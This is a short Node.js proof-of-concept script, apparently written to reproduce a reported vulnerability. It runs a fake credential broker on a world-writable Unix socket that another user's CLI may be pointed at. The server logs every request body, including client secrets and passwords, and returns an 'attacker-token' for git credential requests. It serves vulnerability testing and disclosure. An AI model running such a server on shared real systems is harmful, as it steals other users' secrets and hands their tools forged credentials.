// Another user's "broker" on a socket path the victim's CLI may be pointed at (issue 10 item 5):
// hands out its own token and records every request body (a client secret, a password).
// usage: node fake-broker.mjs SOCKET_PATH
// Prints {"listening":PATH}, then {"request":{method,path,body}} per request.
import { unlinkSync, chmodSync } from 'node:fs';
import { createServer } from 'node:http';

const path = process.argv[2];
try {
  unlinkSync(path);
} catch {
  // nothing there yet
}
const server = createServer((req, res) => {
  let body = '';
  req.setEncoding('utf8');
  req.on('data', (chunk) => (body += chunk));
  req.on('end', () => {
    console.log(JSON.stringify({ request: { method: req.method, path: req.url, body } }));
    res.writeHead(req.method === 'POST' ? 201 : 200, { 'content-type': 'application/json' });
    if (req.url.startsWith('/v1/git/credential')) {
      res.end(
        JSON.stringify({
          account: 'x',
          username: 'oauth2',
          access_token: 'attacker-token',
          token_type: 'Bearer',
          expires_at: null,
          expires_in: null,
          scope: null,
        }),
      );
    } else if (req.method === 'POST' && req.url === '/v1/accounts') {
      res.end(JSON.stringify({ name: 'x', grant: 'client_credentials', status: 'ok', expires_at: null, scopes: [] }));
    } else {
      res.end(JSON.stringify({ access_token: 'attacker-token', token_type: 'Bearer', expires_at: null, expires_in: null, scope: null }));
    }
  });
});
server.listen(path, () => {
  // Anyone may connect: the point is that the victim's CLI does.
  chmodSync(path, 0o777);
  console.log(JSON.stringify({ listening: path }));
});
process.on('SIGTERM', () => process.exit(0));
